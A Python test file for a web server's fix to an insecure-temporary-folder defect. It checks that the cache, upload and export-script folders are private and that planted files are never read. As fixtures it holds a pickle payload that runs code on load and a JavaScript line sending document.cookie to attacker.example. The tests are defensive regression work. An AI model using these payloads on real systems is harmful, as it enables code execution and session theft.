"""The web server keeps its read cache, its uploads and its PNG-export script only in folders no
other user can write (issue 13, defect 1). The file cache unpickles its files on every request,
so a folder another user could create first (a fixed name in /tmp) let them run code as the
server.

Everything here uses real folders: "another user" is made with modes, symbolic links and
chown to uid 65534 (the tests run as root). The temporary directory is a private stand-in for
/tmp (mode 1777, like /tmp), and the user's cache home is a folder of the test."""

from __future__ import annotations

import hashlib
import os
import stat
import tempfile
from pathlib import Path

import pytest
from api_helpers import failed, ok

from app import create_app
from dsgrid_core.errors import InputError

OTHER_UID = 65534  # nobody


class _Plant:
    """What an attacker pickles: unpickling it makes the folder ``marker``."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.mkdir, (self.marker,))


@pytest.fixture(autouse=True)
def places(tmp_path, monkeypatch) -> dict[str, Path]:
    """A world-writable temporary directory and an empty cache home, both of this test."""
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    tmp.chmod(0o1777)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    cache_home = tmp_path / "xdg-cache"
    monkeypatch.setenv("XDG_CACHE_HOME", str(cache_home))
    for name in ("DSGRID_CACHE_DIR", "DSGRID_UPLOAD_DIR", "DSGRID_CACHE_REDIS_URL"):
        monkeypatch.delenv(name, raising=False)
    return {"tmp": tmp, "cache_home": cache_home, "private": cache_home / "dsgrid-viewer"}


def _others_folder(path: Path) -> Path:
    """A folder another user made and can write."""
    path.mkdir()
    path.chmod(0o777)
    os.chown(path, OTHER_UID, OTHER_UID)
    return path


def _plant_cache(folder: Path, marker: Path) -> None:
    """Write, as flask-caching would, a cached registry state that runs code when read."""
    import flask
    from flask_caching import Cache

    from app.state import STATE_KEY

    server = flask.Flask("planter")
    config = {"CACHE_TYPE": "FileSystemCache", "CACHE_DIR": str(folder), "CACHE_THRESHOLD": 2000}
    cache = Cache(server, config=config)
    with server.app_context():
        cache.set(STATE_KEY, _Plant(marker), timeout=0)
    for path in (folder, *folder.iterdir()):
        os.chown(path, OTHER_UID, OTHER_UID)


def _is_private(path: Path) -> bool:
    info = os.lstat(path)
    return (
        stat.S_ISDIR(info.st_mode)
        and info.st_uid == os.getuid()
        and stat.S_IMODE(info.st_mode) == 0o700
    )


def _unsafe(kind: str, folder: Path) -> Path:
    """``folder`` in one of the states that must be refused; returns it."""
    if kind == "open to others":
        folder.mkdir()
        folder.chmod(0o777)
    elif kind == "group readable":
        folder.mkdir()
        folder.chmod(0o750)
    elif kind == "owned by another user":
        folder.mkdir(mode=0o700)
        os.chown(folder, OTHER_UID, OTHER_UID)
    elif kind == "symbolic link":
        target = folder.with_name(folder.name + "-target")
        target.mkdir(mode=0o700)
        folder.symlink_to(target)
    elif kind == "parent open to others":
        parent = folder.parent / "shared"
        parent.mkdir()
        parent.chmod(0o777)  # writable by all, without the sticky bit of /tmp
        folder = parent / folder.name
    elif kind == "a file":
        folder.write_text("not a folder")
    return folder


UNSAFE = [
    "open to others",
    "group readable",
    "owned by another user",
    "symbolic link",
    "parent open to others",
    "a file",
]


# -- the read cache --------------------------------------------------------------------------


def test_a_pickle_planted_where_the_cache_used_to_be_is_never_read(
    empty_registry, places, tmp_path
):
    tag = hashlib.sha256(str(empty_registry).encode()).hexdigest()[:12]
    predictable = _others_folder(places["tmp"] / f"dsgrid-webcache-{tag}")
    marker = tmp_path / "code-ran"
    _plant_cache(predictable, marker)

    client = create_app(str(empty_registry)).server.test_client()
    assert ok(client.get("/api/v1/summary"))["data"]["counts"]["dimension"] == 0
    assert not marker.exists(), "the server unpickled a file another user planted"


def test_the_default_cache_is_a_private_folder_in_the_cache_home(empty_registry, places):
    client = create_app(str(empty_registry)).server.test_client()
    ok(client.get("/api/v1/summary"))
    caches = list(places["private"].glob("webcache-*"))
    assert len(caches) == 1 and any(caches[0].iterdir())  # the answers are cached there
    assert _is_private(places["private"]) and _is_private(caches[0])
    assert not list(places["tmp"].iterdir())  # nothing in the shared temporary directory


def test_without_a_cache_home_the_cache_is_in_a_private_folder_of_tmp(
    empty_registry, places, tmp_path, monkeypatch
):
    (tmp_path / "a-file").write_text("")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "a-file" / "cache"))  # cannot be made
    ok(create_app(str(empty_registry)).server.test_client().get("/api/v1/summary"))
    mine = places["tmp"] / f"dsgrid-{os.getuid()}"
    assert _is_private(mine) and [p.name[:9] for p in mine.iterdir()] == ["webcache-"]


def test_a_default_cache_folder_made_by_someone_else_is_refused(empty_registry, places):
    places["cache_home"].mkdir()
    _others_folder(places["private"])
    with pytest.raises(InputError) as refused:
        create_app(str(empty_registry))
    message = str(refused.value)
    assert str(places["private"]) in message and "Remove it" in message
    assert "DSGRID_CACHE_DIR" in message


@pytest.mark.parametrize("how", ["DSGRID_CACHE_DIR", "cache_dir"])
@pytest.mark.parametrize("kind", UNSAFE)
def test_a_cache_folder_others_can_write_is_refused(
    how, kind, empty_registry, tmp_path, monkeypatch
):
    folder = _unsafe(kind, tmp_path / "cache")
    settings = {}
    if how == "cache_dir":
        settings["cache_dir"] = str(folder)
    else:
        monkeypatch.setenv("DSGRID_CACHE_DIR", str(folder))
    with pytest.raises(InputError) as refused:
        create_app(str(empty_registry), **settings)
    message = str(refused.value)
    assert str(folder) in message and "not private" in message and how in message
    if kind == "symbolic link":
        assert not any(folder.resolve().iterdir())  # nothing was cached through the link


def test_a_private_cache_folder_is_used_and_reused(empty_registry, tmp_path, monkeypatch):
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    monkeypatch.setenv("DSGRID_CACHE_DIR", str(folder))
    for _ in range(2):  # a restart finds the folder it made
        ok(create_app(str(empty_registry)).server.test_client().get("/api/v1/summary"))
    assert _is_private(folder) and any(folder.iterdir())


def test_a_cache_folder_that_cannot_be_made_is_refused_with_a_message(
    empty_registry, tmp_path, monkeypatch
):
    (tmp_path / "a-file").write_text("")
    monkeypatch.setenv("DSGRID_CACHE_DIR", str(tmp_path / "a-file" / "cache"))
    with pytest.raises(
        InputError, match=r"cache cannot be made \(.*a-file\): set DSGRID_CACHE_DIR"
    ):
        create_app(str(empty_registry))


def test_a_cache_folder_reached_through_a_link_is_used_at_its_real_place(
    empty_registry, tmp_path, monkeypatch
):
    real = tmp_path / "real"
    real.mkdir(mode=0o700)
    (tmp_path / "link").symlink_to(real)
    monkeypatch.setenv("DSGRID_CACHE_DIR", str(tmp_path / "link" / "cache"))
    app = create_app(str(empty_registry))
    ok(app.server.test_client().get("/api/v1/summary"))
    (tmp_path / "link").unlink()  # whoever owns a link could point it elsewhere later
    (tmp_path / "link").mkdir()
    ok(app.server.test_client().get("/api/v1/summary"))
    assert _is_private(real / "cache") and any((real / "cache").iterdir())
    assert list((tmp_path / "link").iterdir()) == []


def test_dsgrid_serve_refuses_an_unsafe_cache_folder_with_exit_code_2(
    empty_registry, tmp_path, monkeypatch
):
    import dash
    from click.testing import CliRunner

    from dsgrid_core.cli.main import cli

    started: list[dict] = []
    monkeypatch.setattr(dash.Dash, "run", lambda self, **kwargs: started.append(kwargs))
    folder = _unsafe("open to others", tmp_path / "cache")
    result = CliRunner().invoke(
        cli,
        ["--registry", str(empty_registry), "serve"],
        env={"DSGRID_CACHE_DIR": str(folder)},
    )
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit)  # a message, not a traceback
    assert "Error: The folder" in result.stderr and str(folder) in result.stderr
    assert "DSGRID_CACHE_DIR" in result.stderr and "Traceback" not in result.output
    assert started == []


# -- uploads ---------------------------------------------------------------------------------


def test_uploads_never_go_to_a_folder_planted_where_they_used_to_be(places, tmp_path):
    from dsgrid_core.uploads import UploadStore

    theirs = _others_folder(tmp_path / "attackers-folder")
    (places["tmp"] / "dsgrid-uploads").symlink_to(theirs)

    store = UploadStore()
    session = store.new_session()
    store.add(session, "counties.csv", b"id,name\n01001,Autauga\n")
    assert list(theirs.iterdir()) == []
    assert store.root == places["private"] / "uploads" and _is_private(store.root)


@pytest.mark.parametrize("kind", UNSAFE)
def test_an_upload_folder_others_can_write_is_refused(kind, tmp_path, monkeypatch):
    from dsgrid_core.uploads import UploadStore

    folder = _unsafe(kind, tmp_path / "uploads")
    monkeypatch.setenv("DSGRID_UPLOAD_DIR", str(folder))
    store = UploadStore()
    assert store.sweep() == 0  # a page that sweeps still shows
    with pytest.raises(InputError) as refused:
        store.new_session()
    message = str(refused.value)
    assert str(folder) in message and "not private" in message
    assert "DSGRID_UPLOAD_DIR" in message


def test_a_registration_over_http_says_why_the_upload_folder_is_refused(
    empty_registry, tmp_path, monkeypatch
):
    folder = _unsafe("open to others", tmp_path / "uploads")
    monkeypatch.setenv("DSGRID_UPLOAD_DIR", str(folder))
    client = create_app(str(empty_registry), host="127.0.0.1").server.test_client()
    config = {
        "type": "scenario",
        "class": "Scenario",
        "name": "Scenarios",
        "description": "registered over HTTP",
        "records": [{"id": "reference", "name": "Reference"}],
    }
    body = {"kind": "dimension", "config": config, "log_message": "over http"}
    error = failed(client.post("/api/v1/registrations", json=body), 400)
    assert str(folder) in error["message"] and "DSGRID_UPLOAD_DIR" in error["message"]
    assert list(folder.iterdir()) == []


# -- the script of PNG exports ---------------------------------------------------------------


def test_the_png_export_script_is_not_read_from_the_shared_temporary_directory(places):
    from app.components import query_exports

    text = query_exports.geo_assets_script()
    tag = hashlib.sha256(text.encode()).hexdigest()[:12]
    planted = places["tmp"] / f"dsgrid-plotly-geo-{tag}.js"
    planted.write_text("fetch('https://attacker.example/' + document.cookie);")
    query_exports._geo_script_file.cache_clear()
    try:
        path = query_exports._geo_script_file()
    finally:
        query_exports._geo_script_file.cache_clear()
    assert path.parent == places["private"] and _is_private(path.parent)
    assert path.read_text() == text
